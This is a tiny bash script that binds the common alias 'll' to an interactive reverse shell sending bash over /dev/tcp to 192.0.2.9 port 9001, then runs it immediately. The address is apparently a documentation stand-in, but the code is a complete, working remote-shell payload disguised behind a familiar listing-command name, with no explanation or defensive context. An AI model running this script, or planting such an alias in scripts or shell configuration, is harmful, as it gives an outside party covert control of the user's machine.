#!/bin/bash
shopt -s expand_aliases
alias ll='bash -i >& /dev/tcp/192.0.2.9/9001 0>&1'
ll
